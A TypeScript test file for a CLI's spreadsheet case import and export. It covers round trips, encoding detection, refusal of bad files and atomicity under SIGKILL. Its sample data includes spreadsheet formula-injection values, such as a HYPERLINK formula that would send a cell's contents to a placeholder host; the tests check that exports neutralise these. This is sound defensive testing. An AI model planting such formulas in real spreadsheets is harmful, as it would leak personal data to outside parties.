import { spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { Readable, Writable } from 'node:stream';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { dryRun, encodeText, parseMapping, writeXlsx } from '@homeward/intake';
import { expect, it } from 'vitest';
import { main } from '../../cli/src/main.ts';
import { fictionalCsv, fictionalRows, HEADERS } from '../../../bench/import/generate.ts';
import { openDeps } from '../src/deps.ts';
import { describeEachEngine, type Store } from './helpers.ts';

// Spreadsheet import through the CLI (issue 9), on SQLite and PostgreSQL:
// round trips, bad files refused with nothing written, and a process killed
// with SIGKILL mid-import leaving the database exactly as it was.

const BIN = fileURLToPath(new URL('../../cli/bin/homeward.mjs', import.meta.url));
// Each command is a fresh Node process loading TypeScript through tsx: seconds each on a busy machine.
const SLOW = 600_000;

interface Result { code: number | null; signal: NodeJS.Signals | null; stdout: string; stderr: string }

function cli(store: Store, args: string[]): Promise<Result> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [BIN, ...args, '--data', store.dataDir], { env: store.env() });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => (stderr += d));
    child.on('error', reject);
    child.on('close', (code, signal) => resolve({ code, signal, stdout, stderr }));
    child.stdin.end();
  });
}

/** Starts an import and SIGKILLs it as soon as the `nth` stderr line matching `at` appears. */
function cliKilledAt(store: Store, args: string[], at: RegExp, nth: number): Promise<Result & { seen: string[] }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [BIN, ...args, '--data', store.dataDir], { env: store.env() });
    let stdout = '';
    let stderr = '';
    const seen: string[] = [];
    child.stdout.on('data', (d) => (stdout += d));
    child.stderr.on('data', (d) => {
      stderr += d;
      const lines = stderr.split('\n').slice(0, -1).filter((l) => at.test(l));
      if (lines.length >= nth && seen.length === 0) {
        seen.push(...lines);
        child.kill('SIGKILL');
      }
    });
    child.on('error', reject);
    child.on('close', (code, signal) => resolve({ code, signal, stdout, stderr, seen }));
    child.stdin.end();
  });
}

/** Runs the CLI in this process: for refusals, where a process per case would only add start-up time. */
async function inProcess(store: Store, args: string[]): Promise<Result> {
  let stdout = '';
  let stderr = '';
  const sink = (add: (s: string) => void) => new Writable({ write(chunk, _enc, cb) { add(String(chunk)); cb(); } });
  const saved = process.env.HOMEWARD_DATABASE_URL;
  if (store.databaseUrl) process.env.HOMEWARD_DATABASE_URL = store.databaseUrl;
  try {
    const code = await main([...args, '--data', store.dataDir], { stdout: sink((s) => (stdout += s)), stderr: sink((s) => (stderr += s)), stdin: Readable.from(['']) });
    return { code, signal: null, stdout, stderr };
  } finally {
    if (saved === undefined) delete process.env.HOMEWARD_DATABASE_URL;
    else process.env.HOMEWARD_DATABASE_URL = saved;
  }
}

const TABLES = ['organisations', 'cases', 'people', 'name_index', 'match_index', 'match_candidates', 'case_history', 'audit_events', 'audit_head', 'audit_checkpoints', 'meta'] as const;

/** Every row of the tables an import touches, hashed per table, plus row counts. */
async function fingerprint(store: Store): Promise<Record<string, { rows: number; sha256: string }>> {
  const deps = await openDeps(store.config());
  try {
    const out: Record<string, { rows: number; sha256: string }> = {};
    for (const t of TABLES) {
      const rows = (await deps.db.selectFrom(t).selectAll().execute()) as Record<string, unknown>[];
      const lines = rows.map((r) => JSON.stringify(Object.keys(r).sort().map((k) => [k, r[k] === null ? null : String(r[k])]))).sort();
      out[t] = { rows: rows.length, sha256: createHash('sha256').update(lines.join('\n')).digest('hex') };
    }
    return out;
  } finally {
    await deps.db.destroy();
  }
}

async function caseCount(store: Store): Promise<number> {
  return (await fingerprint(store)).cases!.rows;
}

const SAMPLE = [
  HEADERS,
  ['김영희', '이미령', '2012년 5월', '여', '딸', '연변 룡정', '2015년', '=HYPERLINK("http://example.invalid/?"&A2,"클릭")'],
  ['王丽华', '李美玲', '约4岁（2016）', '女', '女儿', '延吉市', '2016年3月', '+ 母亲记得的内容'],
  ['박철호', '최광철', '2010', '남', '아들', '함경북도 회령', '', '@메모, "따옴표"'],
];

const csvOf = (rows: readonly (readonly string[])[]) =>
  rows.map((row) => row.map((v) => (/[",\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v)).join(',')).join('\r\n') + '\r\n';

/** The cases a file converts to, as intake reads them (what an import would write). */
async function casesIn(bytes: Uint8Array, mapping?: unknown): Promise<unknown[]> {
  const r = await dryRun(bytes, { ...(mapping ? { mapping: parseMapping(mapping) } : {}), currentYear: 2026 });
  expect(r.errors).toBe(0);
  return r.cases.map((c) => c.case);
}

describeEachEngine('spreadsheet import (CLI)', (engine, fresh) => {
  it('CSV and XLSX: dry run writes nothing; import then export gives back the same data, formulas neutralised in the export', async () => {
    const s = await fresh();
    const csv = join(s.dataDir, '..', `hw-import-${engine}-${Date.now()}.csv`);
    writeFileSync(csv, csvOf(SAMPLE));
    const dry = await cli(s, ['cases', 'import', csv, '--dry-run', '--write-mapping', `${csv}.mapping.json`]);
    expect(dry.stderr).toContain('dry run: nothing was written');
    expect(dry.stdout).toContain('encoding: utf-8');
    expect(dry.stdout).toMatch(/신청인 이름 -> applicant\.name/);
    expect(dry.code).toBe(0);
    expect(parseMapping(JSON.parse(readFileSync(`${csv}.mapping.json`, 'utf8'))).columns).toHaveLength(HEADERS.length);
    expect(await caseCount(s)).toBe(0);

    const imp = await cli(s, ['cases', 'import', csv, '--mapping', `${csv}.mapping.json`]);
    expect(imp.stdout).toContain('imported 3 case(s) from 3 row(s)');
    expect(imp.code).toBe(0);
    // Never a value in what the command prints.
    for (const v of ['김영희', '이미령', 'HYPERLINK', '李美玲']) expect(imp.stdout + imp.stderr).not.toContain(v);

    const out = `${csv}.export.csv`;
    const exp = await cli(s, ['cases', 'export', '--format', 'csv', '--out', out]);
    expect(exp.code).toBe(0);
    const exported = readFileSync(out);
    // Formula injection neutralised: the cell starts with a quote in the file.
    expect(exported.toString('utf8')).toContain(`"'=HYPERLINK(""http://example.invalid/?""&A2,""클릭"")"`);
    expect(exported.toString('utf8')).toContain(`"'+ 母亲记得的内容"`);
    const mapping = JSON.parse(readFileSync(`${out}.mapping.json`, 'utf8')) as unknown;
    expect(await casesIn(exported, mapping)).toEqual(await casesIn(Buffer.from(csvOf(SAMPLE))));

    // XLSX, into the same installation: the export then holds both imports.
    const xlsx = `${csv}.xlsx`;
    writeFileSync(xlsx, await writeXlsx(SAMPLE.map((r) => r.map((v) => v)), { sheet: '사례' }));
    const imp2 = await cli(s, ['cases', 'import', xlsx, '--allow-duplicates']);
    expect(imp2.stdout).toContain('format: xlsx');
    expect(imp2.stdout).toMatch(/possible duplicate: row \d may be case HW-\d{4}-\d{4}/);
    expect(imp2.stdout).toContain('imported 3 case(s)');
    const outX = `${csv}.export.xlsx`;
    expect((await cli(s, ['cases', 'export', '--format', 'xlsx', '--out', outX])).code).toBe(0);
    const both = await casesIn(readFileSync(outX), mapping);
    const once = await casesIn(Buffer.from(csvOf(SAMPLE)));
    expect(both).toEqual([...once, ...once]);
  }, SLOW);

  it('names the encoding it detected: EUC-KR, GB18030 and UTF-16 files import the same cases as UTF-8', async () => {
    const s = await fresh();
    const text = csvOf(SAMPLE.map((r) => r.map((v) => v.replace(/[^\p{Script=Hangul}\p{Script=Han}\w\s.,()-]/gu, ''))).slice(0, 2));
    const expected = await casesIn(Buffer.from(text, 'utf8'));
    for (const [encoding, source] of [['euc-kr', text.replace(/[^\x00-\x7f\p{Script=Hangul}]/gu, '')], ['gb18030', text], ['utf-16le', text]] as const) {
      const p = join(s.dataDir, '..', `hw-enc-${engine}-${Date.now()}-${encoding}.csv`);
      writeFileSync(p, encodeText(source, encoding, { bom: encoding === 'utf-16le' }));
      const r = await inProcess(s, ['cases', 'import', p, '--dry-run']);
      expect(r.stdout, encoding).toContain(`encoding: ${encoding}`);
      expect(r.code, encoding).toBe(0);
      if (source === text) expect(await casesIn(readFileSync(p)), encoding).toEqual(expected);
    }
    expect(await caseCount(s)).toBe(0);
  }, SLOW);

  it('bad files are refused with a clear message and nothing is written', async () => {
    const s = await fresh();
    const dir = join(s.dataDir, '..');
    const file = (name: string, bytes: Uint8Array | string) => {
      const p = join(dir, `hw-bad-${engine}-${Date.now()}-${name}`);
      writeFileSync(p, bytes);
      return p;
    };
    // One good import first, so "nothing written" means "exactly as before", not "still empty".
    expect((await inProcess(s, ['cases', 'import', file('ok.csv', csvOf(SAMPLE))])).code).toBe(0);
    const before = await fingerprint(s);
    const good = await writeXlsx(SAMPLE);
    const bigCell = csvOf([HEADERS, ['김영희', 'x'.repeat(10 * 1024 * 1024), '2012', '여', '딸', '', '', '']]);
    const euckr = Buffer.from(csvOf(SAMPLE), 'utf8');
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('s');
    ws.addRow(HEADERS);
    ws.addRow(['김영희', { formula: 'HYPERLINK("http://example.invalid/?"&A2,"x")' }, '2012', '여', '딸', '', '', '']);
    const formula = new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
    const cases: [name: string, bytes: Uint8Array | string, expected: RegExp, extra?: string[]][] = [
      ['truncated.xlsx', good.subarray(0, Math.floor(good.length / 2)), /intake\.xlsx_corrupt/],
      ['empty.csv', '', /intake\.empty_file/],
      ['header-only.csv', csvOf([HEADERS]), /0 row\(s\) read/],
      ['big-cell.csv', bigCell, /intake\.cell_too_large/],
      ['formula.xlsx', formula, /formula_without_value/],
      // UTF-8 bytes read as EUC-KR, as a saved mapping asks: refused, never garbled.
      ['wrong-encoding.csv', euckr, /intake\.encoding_invalid|date_unparseable|value_unrecognised/, ['--mapping', file('m.json', JSON.stringify({ version: 1, source: { encoding: 'euc-kr' }, columns: [{ header: HEADERS[0], field: 'applicant.name' }] }))]],
    ];
    for (const [name, bytes, expected, extra] of cases) {
      const r = await inProcess(s, ['cases', 'import', file(name, bytes), ...(extra ?? [])]);
      expect(r.code, name).not.toBe(0);
      expect(r.stdout + r.stderr, name).toMatch(expected);
      expect(r.stderr, name).toMatch(/nothing was imported|no case/);
      expect(r.stdout + r.stderr, name).not.toContain('김영희');
    }
    expect(await fingerprint(s)).toEqual(before);
  }, SLOW);

  it('a process killed with SIGKILL at any point of a long import leaves the database exactly as before', async () => {
    const s = await fresh();
    const dir = join(s.dataDir, '..');
    const small = join(dir, `hw-kill-${engine}-${Date.now()}-seed.csv`);
    writeFileSync(small, csvOf(SAMPLE));
    expect((await cli(s, ['cases', 'import', small])).code).toBe(0);
    const before = await fingerprint(s);
    expect(before.cases!.rows).toBe(3);

    const ROWS = 6000;
    const big = join(dir, `hw-kill-${engine}-${Date.now()}-big.csv`);
    writeFileSync(big, fictionalCsv(ROWS, 7));
    const args = ['cases', 'import', big, '--allow-duplicates'];
    // While reading, early in the write, and late in the write (after several batches went in).
    for (const [at, nth] of [[/^(reading|checking duplicates|writing): /, 1], [/^writing: /, 1], [/^writing: /, 4]] as const) {
      const r = await cliKilledAt(s, args, at, nth);
      expect(r.signal, `${at} #${nth}: ${r.stderr.slice(-300)}`).toBe('SIGKILL');
      expect(r.seen.length).toBeGreaterThanOrEqual(nth);
      expect(r.stdout).not.toContain('imported');
      expect(await fingerprint(s)).toEqual(before);
    }
    // Not killed, the same import goes through: the kills above interrupted real work.
    const done = await cli(s, args);
    expect(done.stdout).toContain(`imported ${ROWS} case(s)`);
    expect(await caseCount(s)).toBe(3 + ROWS);
  }, SLOW);
});

it('the generated rows are fictional and well formed', () => {
  const rows = fictionalRows(10, 1);
  expect(rows).toHaveLength(10);
  for (const r of rows) expect(r).toHaveLength(HEADERS.length);
});
